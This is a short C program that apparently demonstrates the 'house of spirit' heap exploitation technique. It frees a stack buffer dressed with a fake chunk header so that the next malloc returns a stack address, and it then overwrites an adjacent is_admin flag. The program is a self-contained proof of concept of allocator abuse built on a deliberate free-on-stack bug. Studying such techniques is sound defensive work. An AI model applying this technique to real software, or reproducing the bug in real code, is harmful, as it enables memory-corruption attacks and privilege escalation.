// Stack free ("house of spirit"): the address of a local array is freed.
//
// A function takes a buffer that is on the stack when it is short, and on the heap when it is long; it frees both. The
// attacker fills the short one with what the allocator expects to find around a block.
// The attacker gains: malloc returns an address on the stack, and his next message overwrites the caller's variables.
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

typedef struct frame_s {
  _Alignas(16) uint64_t before[2];
  char buffer[48];
  volatile long is_admin;
} frame_t;

static void* volatile hidden;

int main(void) {
  frame_t frame = {.before = {0, 0x41}, .buffer = "short", .is_admin = 0};
  hidden = frame.buffer;
  free(hidden);  // bug: it is on the stack

  char* message = malloc(56);
  memset(message, 'A', 56);  // as long as he asked for

  if (frame.is_admin == 0) return puts("attack failed: the variable on the stack is not changed"), 1;
  printf("ATTACK SUCCEEDED: malloc returned %p, on the stack; is_admin = %#lx\n", (void*)message,
         (unsigned long)frame.is_admin);
  return 0;
}
